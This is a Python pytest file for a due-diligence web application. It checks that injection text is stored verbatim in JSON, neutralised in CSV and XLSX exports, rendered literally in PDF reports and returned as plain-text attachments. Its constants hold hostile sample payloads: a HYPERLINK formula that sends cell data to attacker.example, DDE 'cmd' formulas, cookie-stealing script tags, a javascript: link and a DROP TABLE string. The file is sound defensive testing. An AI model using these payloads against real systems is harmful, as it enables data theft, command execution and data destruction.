"""Markup and formula injection: such text is data. It is stored and returned exactly as sent
in JSON, neutralised in CSV and XLSX exports (a spreadsheet never runs it), drawn as literal
text in PDFs, and uploaded files come back as attachments of their checked type."""

from __future__ import annotations

import csv
import io
import re
import uuid
from typing import Any

from hostile_support import (
    API,
    SMALL_LIMITS,
    build_world,
    client_with,
    import_holdings,
    upload_file,
)
from openpyxl import load_workbook
from pypdf import PdfReader

from hrdd.assessments.models import Assessment
from hrdd.db import TenantContext

IMG = '<img src="/etc/passwd"/>'
JS_LINK = '<a href="javascript:alert(1)">click</a>'
HYPERLINK = '=HYPERLINK("https://attacker.example/?d="&A1,"Open")'
PLUS_CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
SCRIPT = "<script>alert(document.cookie)</script>"
SQL = "Robert'); DROP TABLE companies;--"
TEMPLATE = "{{7*7}} ${7*7} %s %n"
INJECTIONS = (IMG, JS_LINK, HYPERLINK, PLUS_CMD, AT_SUM, MINUS, SCRIPT, SQL, TEMPLATE)
FORMULAS = (HYPERLINK, PLUS_CMD, AT_SUM, MINUS)
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


SOURCE = {
    "publisher": "Example Research Lab",
    "title": "Findings",
    "date": "2020-06-15",
    "url": "https://example.org/report",
    "source_class": "forensic_lab",
}


def _evidence(company_id: str, text: str, source: dict[str, str]) -> dict[str, Any]:
    return {
        "company_id": company_id,
        "event_date": "2020-06-01",
        "type": "forensic_finding",
        "title": text,
        "summary": text,
        "severity": 3,
        "company_role": "contributed",
        "sources": [source],
    }


def _csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]


def _holdings_csv(names: tuple[str, ...]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["name", "market_value"])
    writer.writerows([name, "1000"] for name in names)
    return buffer.getvalue().encode()


def test_injection_text_is_stored_and_returned_exactly(settings, db, tenant_a):
    with client_with(settings, db, **SMALL_LIMITS) as client:
        world = build_world(client, db, settings, tenant_a, scoring=True)
        for text in INJECTIONS:
            company = client.post(
                f"{API}/companies",
                json={"name": text, "aliases": [text], "notes": text},
                headers=tenant_a.analyst,
            )
            assert company.status_code == 201, company.text
            assert company.headers["content-type"] == "application/json"
            read = client.get(
                f"{API}/companies/{company.json()['id']}", headers=tenant_a.investor
            ).json()
            assert (read["name"], read["aliases"], read["notes"]) == (text, [text], text)

            portfolio = client.post(
                f"{API}/portfolios",
                json={"name": text, "base_currency": "EUR", "description": text},
                headers=tenant_a.investor,
            )
            assert portfolio.status_code == 201, portfolio.text
            assert (portfolio.json()["name"], portfolio.json()["description"]) == (text, text)

            owner = client.post(
                f"{API}/companies/{world.company_id}/ownership",
                json={"owner_name": text, "owner_kind": "fund", "note": text},
                headers=tenant_a.analyst,
            )
            assert owner.status_code == 201, owner.text
            assert (owner.json()["owner_name"], owner.json()["note"]) == (text, text)

            source = SOURCE | {"publisher": text, "title": text}
            evidence = client.post(
                f"{API}/evidence",
                json=_evidence(world.company_id, text, source),
                headers=tenant_a.analyst,
            )
            assert evidence.status_code == 201, evidence.text
            read_back = client.get(
                f"{API}/evidence/{evidence.json()['id']}", headers=tenant_a.investor
            ).json()
            assert (read_back["title"], read_back["summary"]) == (text, text)
            assert read_back["sources"][0]["publisher"] == text

        etag = world.assessment_etag
        for text in INJECTIONS:
            answer = client.put(
                world.assessment("/answers/P3"),
                json={
                    "type": "text",
                    "value": text,
                    "comment": text,
                    "evidence": [{"title": text, "url": "https://example.org/review"}],
                },
                headers=tenant_a.investor | {"If-Match": etag},
            )
            assert answer.status_code == 200, answer.text
            etag = answer.headers["ETag"]
            stored = answer.json()["answers"]["P3"]["payload"]
            assert (stored["value"], stored["comment"]) == (text, text)
            assert stored["evidence"][0]["title"] == text

        imported = import_holdings(client, tenant_a.investor, world, _holdings_csv(INJECTIONS))
        assert imported.status_code == 200, imported.text
        holdings = client.get(world.portfolio("/holdings"), headers=tenant_a.investor).json()
        assert [h["name"] for h in holdings["items"]] == list(INJECTIONS)


def test_portfolio_exports_neutralise_formulas_and_keep_the_text(settings, db, tenant_a):
    with client_with(settings, db, **SMALL_LIMITS) as client:
        world = build_world(client, db, settings, tenant_a, scoring=True)
        imported = import_holdings(client, tenant_a.investor, world, _holdings_csv(INJECTIONS))
        assert imported.status_code == 200, imported.text

        as_csv = client.get(world.portfolio("/risk.csv"), headers=tenant_a.investor)
        assert as_csv.status_code == 200, as_csv.text
        assert "attachment" in as_csv.headers["content-disposition"]
        cells = _csv_cells(as_csv.content)
        for text in INJECTIONS:
            expected = "'" + text if text in FORMULAS else text
            assert expected in cells, text
        _assert_no_formula_cells(cells)

        as_xlsx = client.get(world.portfolio("/risk.xlsx"), headers=tenant_a.investor)
        assert as_xlsx.status_code == 200, as_xlsx.text
        sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
        xlsx_cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert not [cell.coordinate for cell in xlsx_cells if cell.data_type == "f"]
        texts = [cell.value for cell in xlsx_cells if isinstance(cell.value, str)]
        for text in FORMULAS:
            assert "'" + text in texts, text
        _assert_no_formula_cells(texts)

        as_json = client.get(world.portfolio("/risk.json"), headers=tenant_a.investor)
        assert as_json.status_code == 200, as_json.text
        names = [holding["name"] for holding in as_json.json()["holdings"]]
        assert set(INJECTIONS) <= set(names)  # JSON is data: no apostrophes added


def test_score_export_neutralises_a_company_named_like_a_formula(settings, db, tenant_a):
    with client_with(settings, db, **SMALL_LIMITS) as client:
        build_world(client, db, settings, tenant_a, scoring=True)
        for text in FORMULAS:
            company = client.post(
                f"{API}/companies", json={"name": text}, headers=tenant_a.analyst
            ).json()
            assessment = client.post(
                f"{API}/assessments",
                json={"company_id": company["id"], "questionnaire_key": "stap-surveillance"},
                headers=tenant_a.investor,
            ).json()
            # The export lists the assessments that stand for a company: submitted or final.
            with db.session(TenantContext(tenant_a.organisation_id), write=True) as session:
                session.get(Assessment, uuid.UUID(assessment["id"])).status = "submitted"
            score = client.get(
                f"{API}/assessments/{assessment['id']}/score", headers=tenant_a.investor
            )
            assert score.status_code == 200, score.text
        exported = client.get(f"{API}/assessment-scores.csv", headers=tenant_a.investor)
    assert exported.status_code == 200, exported.text
    cells = _csv_cells(exported.content)
    for text in FORMULAS:
        assert "'" + text in cells, text
    _assert_no_formula_cells(cells)


def _assert_no_formula_cells(cells: list[Any]) -> None:
    """Only numbers may start with a formula character (a negative number is no formula)."""
    risky = [
        cell
        for cell in cells
        if cell.startswith(FORMULA_TRIGGERS) and not re.fullmatch(r"-\d+(\.\d+)?", cell)
    ]
    assert not risky, risky


def test_a_company_report_draws_markup_as_text(settings, db, tenant_a):
    with client_with(settings, db, **SMALL_LIMITS) as client:
        build_world(client, db, settings, tenant_a, scoring=True)
        company = client.post(
            f"{API}/companies", json={"name": f"Vendor {IMG} {JS_LINK}"}, headers=tenant_a.analyst
        ).json()
        assessment = client.post(
            f"{API}/assessments",
            json={"company_id": company["id"], "questionnaire_key": "stap-surveillance"},
            headers=tenant_a.investor,
        )
        answered = client.put(
            f"{API}/assessments/{assessment.json()['id']}/answers/P3",
            json={"type": "text", "value": SCRIPT},
            headers=tenant_a.investor | {"If-Match": assessment.headers["ETag"]},
        )
        assert answered.status_code == 200, answered.text
        report = client.get(
            f"{API}/assessments/{assessment.json()['id']}/report.pdf", headers=tenant_a.investor
        )
    assert report.status_code == 200, report.text
    assert report.headers["content-type"] == "application/pdf"
    reader = PdfReader(io.BytesIO(report.content))
    text = re.sub(r"\s+", "", "".join(page.extract_text() for page in reader.pages))
    assert re.sub(r"\s+", "", IMG) in text
    assert re.sub(r"\s+", "", JS_LINK) in text


def test_an_uploaded_file_with_markup_comes_back_as_a_plain_text_attachment(settings, db, tenant_a):
    content = f"{SCRIPT}\n{IMG}\n".encode()
    with client_with(settings, db, **SMALL_LIMITS) as client:
        world = build_world(client, db, settings, tenant_a, scoring=True)
        uploaded = upload_file(
            client, tenant_a.investor, world, content, "text/plain", filename=f"{SCRIPT}.txt"
        )
        assert uploaded.status_code == 201, uploaded.text
        download = client.get(
            world.assessment(f"/files/{uploaded.json()['id']}"), headers=tenant_a.investor
        )
    assert download.status_code == 200
    assert download.content == content
    assert download.headers["content-type"].startswith("text/plain")
    assert download.headers["content-disposition"].startswith("attachment")
